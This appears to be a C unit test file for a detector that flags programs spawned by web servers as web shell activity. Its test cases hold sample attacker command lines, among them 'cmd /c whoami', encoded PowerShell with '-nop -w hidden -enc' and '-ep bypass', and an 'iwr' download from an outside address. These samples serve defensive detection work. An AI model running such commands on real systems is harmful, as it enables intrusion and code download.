/*
 * Programs that chains take for what a web shell starts: all that the built-in rules name as
 * children of web servers, whatever they are called, and none that an application is.
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <cmocka.h>

#include "detect/chain/name_index.h"
#include "detect/chain/program_arguments.h"
#include "detect/chain/program_kind.h"
#include "tests/unit/detect/chain_scenario.h"

/* --- rules and chains --------------------------------------------------------------------------
 */

/* `            - '\cmd.exe'` of a rule; NULL: no item of a list. */
static char *item_of(char *line)
{
    char *at = strstr(line, "- '"), *end;
    if (at == NULL || strspn(line, " ") != (size_t)(at - line))
        return NULL;
    at += 3;
    end = strrchr(at, '\'');
    if (end == NULL)
        return NULL;
    *end = '\0';
    return at;
}

static bool is_candidate(const char *section, const char *item)
{
    char path[256];
    if (strcmp(section, "child_image") == 0) {
        (void)snprintf(path, sizeof path, "C:\\x%s", item);
        return iw_program_find(iw_str_of(path), IW_STR("")) != NULL;
    }
    if (strcmp(section, "child_name") == 0)
        return iw_program_find(IW_STR("C:\\x\\renamed.exe"), iw_str_of(item)) != NULL;
    if (strcmp(section, "place") == 0)
        (void)snprintf(path, sizeof path, "C:%s%sa.exe", item[0] == ':' ? "" : "\\x",
                       item[0] == ':' ? item + 1 : item);
    else if (strcmp(section, "extension") == 0)
        (void)snprintf(path, sizeof path, "D:\\data\\a%s", item);
    else
        return true;
    return iw_program_of_odd_place(iw_str_of(path)) != NULL;
}

static size_t check_rule(const char *name)
{
    char path[512], line[512], section[64] = "";
    size_t n = 0;
    FILE *file;
    (void)snprintf(path, sizeof path, "%s/rules/web_server_starts_%s.yml", IW_TEST_SOURCE_DIR,
                   name);
    file = fopen(path, "r");
    assert_non_null(file);
    while (fgets(line, sizeof line, file) != NULL) {
        char *item = item_of(line);
        if (item == NULL) {
            if (strspn(line, " ") == 4)
                (void)snprintf(section, sizeof section, "%.*s", (int)strcspn(line + 4, ":"),
                               line + 4);
            continue;
        }
        n += strncmp(section, "child", 5) == 0 || strcmp(section, "place") == 0;
        if (!is_candidate(section, item))
            fail_msg("%s: %s of %s is no candidate of chains", name, item, section);
    }
    assert_int_equal(fclose(file), 0);
    return n;
}

static void programs_of_rules_are_candidates_of_chains(void **state)
{
    static const struct {
        const char *name;
        size_t n_least;
    } RULES[] = {{"command_shell", 6},
                 {"powershell", 6},
                 {"script_host", 10},
                 {"discovery_command", 40},
                 {"living_off_the_land_tool", 60},
                 {"credential_tool", 15},
                 {"program_from_odd_place", 15}};
    (void)state;
    for (size_t i = 0; i < sizeof RULES / sizeof RULES[0]; i++)
        assert_true(check_rule(RULES[i].name) >= RULES[i].n_least);
}

static void names_and_places(void **state)
{
    static const struct {
        const char *image;
        bool is_known, is_odd_place;
    } CASES[] = {
        {"C:\\x\\cmd.com", true, false},
        {"C:\\x\\CMD.SCR", true, false},
        {"C:\\Python\\python3.12.exe", true, false},
        {"C:\\Python\\pythonw.exe", true, false},
        {"C:\\tools\\lua5.4.exe", true, false},
        {"C:\\tools\\perl5.36.0.exe", true, false},
        {"C:\\x\\Microsoft.Workflow.Compiler.exe", true, false},
        {"C:\\x\\cmd2.exe", false, false}, /* a version is one of interpreters */
        {"C:\\x\\12.exe", false, false},
        {"C:\\x\\.exe", false, false},
        {"C:\\ProgramData\\upd.exe", false, true},
        {"C:\\ProgramData\\Vendor\\upd.exe", false, false},
        {"C:\\Users\\DefaultAppPool\\upd.exe", false, true},
        {"C:\\Users\\upd.exe", false, false},
        {"D:\\app\\upd.exe", false, false},
        {"D:\\app\\upd.jpg", false, true},
    };
    (void)state;
    for (size_t i = 0; i < sizeof CASES / sizeof CASES[0]; i++) {
        struct iw_str image = iw_str_of(CASES[i].image);
        if ((iw_program_find(image, IW_STR("")) != NULL) != CASES[i].is_known ||
            (iw_program_of_odd_place(image) != NULL) != CASES[i].is_odd_place)
            fail_msg("%s", CASES[i].image);
    }
}

static void applications_and_consoles(void **state)
{
    static const struct {
        const char *image, *command;
        bool is_ordinary;
    } CASES[] = {
        {"dotnet.exe", "\"C:\\Program Files\\dotnet\\dotnet.exe\" .\\Shop.dll", true},
        {"dotnet.exe", "dotnet exec \"D:\\my site\\Shop.dll\" --urls http://*:80", true},
        {"dotnet.exe", "", true}, /* not logged */
        {"dotnet.exe", "dotnet C:\\Windows\\Temp\\Shop.dll", false},
        {"dotnet.exe", "dotnet \\\\10.0.0.9\\s\\a.dll", false},
        {"dotnet.exe", "dotnet build C:\\x", false},
        {"dotnet.exe", "dotnet", false},
        {"node.exe", "node.exe \"C:\\Program Files\\iisnode\\interceptor.js\"", true},
        {"node.exe", "node --max-old-space-size=4096 server.mjs", true},
        {"node.exe", "node -e \"require('child_process')\"", false},
        {"node.exe", "node --require x.js", false},
        {"node.exe", "node C:\\ProgramData\\a.js", false},
        {"conhost.exe", "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1", true},
        {"conhost.exe", "conhost.exe", true},
        {"conhost.exe", "conhost.exe cmd.exe", false},
        {"conhost.exe", "conhost.exe --headless powershell", false},
    };
    (void)state;
    for (size_t i = 0; i < sizeof CASES / sizeof CASES[0]; i++) {
        const struct iw_program *program = iw_program_find(iw_str_of(CASES[i].image), IW_STR(""));
        struct iw_str command = iw_str_of(CASES[i].command);
        assert_non_null(program);
        if ((iw_program_is_hosted_application(program, command) ||
             iw_program_is_console_host(program, command)) != CASES[i].is_ordinary)
            fail_msg("%s", CASES[i].command);
    }
}

static void arguments_of_shells(void **state)
{
    static const struct {
        const char *command, *technique; /* NULL: of none */
    } CASES[] = {
        {"svchost32.exe /c whoami", "T1059.003"},
        {"\"C:\\my x\\a.exe\" /q /c \"cd /d C:\\x&net user\"", "T1059.003"},
        {"a.exe /cwhoami", "T1059.003"},
        {"a.exe /K dir", "T1059.003"},
        {"a.exe /c config.xml", NULL},
        {"a.exe /c", NULL},
        {"a.exe job /c whoami", NULL}, /* cmd takes no argument before */
        {"a.exe", NULL},
        {"", NULL},
        {"mon.exe -nop -w hidden -enc SQBFAFgAKABOAGUAdwA=", "T1059.001"},
        {"mon.exe -e SQBFAFgA", "T1059.001"},
        {"mon.exe /ec SQBFAFgA", "T1059.001"},
        {"mon.exe -e production", NULL}, /* Base64, but of no UTF-16 */
        {"mon.exe -e AAAAAAAA", NULL},
        {"mon.exe -e SQBFAFg", NULL},
        {"mon.exe -NonI -ep bypass -f x.ps1", "T1059.001"},
        {"mon.exe -nop x", NULL}, /* one of them alone may be anybody's */
        {"mon.exe -c iwr 203.0.113.7/a", "T1059.001"},
        {"mon.exe -command \"Get-Process\"", "T1059.001"},
        {"mon.exe -c \"$x=1\"", "T1059.001"},
        {"mon.exe -c whoami", "T1059.001"},
        {"mon.exe -c settings.json", NULL},
        {"mon.exe -w 1 -h 2", NULL},
        {"x.exe //e:vbscript a.txt", "T1059.005"},
        {"x.exe vbscript:Execute(1)", "T1059.005"},
        {"convert.exe -resize 100x100 a.jpg b.jpg", NULL},
        {"wkhtmltopdf.exe --quiet http://localhost/x - ", NULL},
    };
    (void)state;
    for (size_t i = 0; i < sizeof CASES / sizeof CASES[0]; i++) {
        const struct iw_program *found = iw_program_of_arguments(iw_str_of(CASES[i].command));
        const char *technique = found != NULL ? found->technique : NULL;
        if ((technique == NULL) != (CASES[i].technique == NULL) ||
            (technique != NULL && strcmp(technique, CASES[i].technique) != 0))
            fail_msg("%s: %s", CASES[i].command, technique);
    }
}

/* --- in a chain --------------------------------------------------------------------------------
 */

#define FOUND                                                                                      \
    "a.aspx medium 70: shell file same-pool written-by-server / file_created process_created"

static void chains_of_them(void **state)
{
    static const struct scenario CASES[] = {
        {.name = "a tool of Windows",
         .script = WORKER "2000 write 10 " A "\n3000 start 20 10 pcalua.exe pcalua -a x\n",
         .found = FOUND},
        {.name = "a program in ProgramData",
         .script =
             WORKER "2000 write 10 " A "\n3000 start 20 10 C:\\ProgramData\\upd.exe upd -c 1\n",
         .found = FOUND},
        {.name = "it starts another: that is its child",
         .script = WORKER "3000 start 20 10 C:\\ProgramData\\upd.exe upd\n"
                          "4000 start 21 20 cmd.exe cmd /c ver\n",
         .found = "w3wp.exe medium 50 partial: shell / process_created child_created"},
        {.name =
             "a program of an application is none, nor what lies in a temporary folder below it",
         .script = WORKER "3000 start 20 10 D:\\app\\convert.exe convert\n"
                          "4000 start 21 20 C:\\Windows\\Temp\\helper.exe helper\n",
         .found = ""},
        {.name = "an application that is hosted, and what it starts",
         .script = WORKER "3000 start 20 10 C:\\dotnet\\dotnet.exe dotnet Shop.dll\n"
                          "4000 start 21 20 cmd.exe cmd /c ver\n",
         .found = ALONE},
        {.name = "a shell under another name, by the audit alone",
         .script = "1000L worker 10 ShopPool\n"
                   "3000L start 20 10 D:\\app\\mon.exe mon -c iwr 203.0.113.7/a\n",
         .found = ALONE},
        {.name = "of an application that it hosts it is the application's",
         .script = WORKER "3000 start 20 10 D:\\app\\convert.exe convert\n"
                          "4000 start 21 20 D:\\app\\mon.exe mon -c iwr 203.0.113.7/a\n",
         .found = ""},
        {.name = "a console and its host",
         .script = WORKER "3000 start 20 10 conhost.exe conhost.exe 0x4\n",
         .found = ""},
    };
    (void)state;
    RUN(CASES);
}

/* --- the index ---------------------------------------------------------------------------------
 */

#define N_MANY (IW_NAME_INDEX_ROWS + 1U)

/* Every row of a full table, in any letter case; none that is not there, nor one past the room. */
static void index_finds_every_row(void **state)
{
    struct {
        const char *name;
        unsigned number;
    } rows[N_MANY];
    char names[N_MANY][16];
    struct iw_name_index index = {.rows = rows, .row_bytes = sizeof rows[0], .n = N_MANY};
    (void)state;
    for (unsigned i = 0; i < N_MANY; i++) {
        (void)snprintf(names[i], sizeof names[i], "program%u.exe", i);
        rows[i].name = names[i];
        rows[i].number = i;
    }
    for (unsigned i = 0; i < IW_NAME_INDEX_ROWS; i++) {
        assert_ptr_equal(iw_name_index_find(&index, iw_str_of(names[i])), &rows[i]);
        names[i][0] = 'P';
        assert_ptr_equal(iw_name_index_find(&index, iw_str_of(names[i])), &rows[i]);
    }
    assert_null(iw_name_index_find(&index, iw_str_of(names[N_MANY - 1])));
    assert_null(iw_name_index_find(&index, IW_STR("")));
    assert_null(iw_name_index_find(&index, IW_STR("program1.ex")));
    assert_null(iw_name_index_find(&index, IW_STR("program1.exe.program1.exe")));
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(index_finds_every_row),
        cmocka_unit_test(programs_of_rules_are_candidates_of_chains),
        cmocka_unit_test(names_and_places),
        cmocka_unit_test(applications_and_consoles),
        cmocka_unit_test(arguments_of_shells),
        cmocka_unit_test(chains_of_them),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
